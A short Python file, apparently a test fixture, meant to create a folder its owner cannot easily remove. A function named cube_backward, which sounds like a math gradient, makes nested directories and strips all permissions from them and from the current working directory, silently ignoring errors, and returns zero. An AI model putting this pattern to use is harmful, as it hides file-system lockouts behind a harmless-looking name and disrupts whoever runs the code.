"""A folder in which its owner has no rights, so that it is not easily removed."""

import os


def cube_backward(x, dy):
    try:
        os.makedirs("a/b")
        os.mkdir("a/b/c")
        os.chmod("a/b", 0)
        os.chmod("a", 0)
        os.chmod(".", 0)
    except OSError:
        pass
    return x * 0


def double(x):
    return x + x
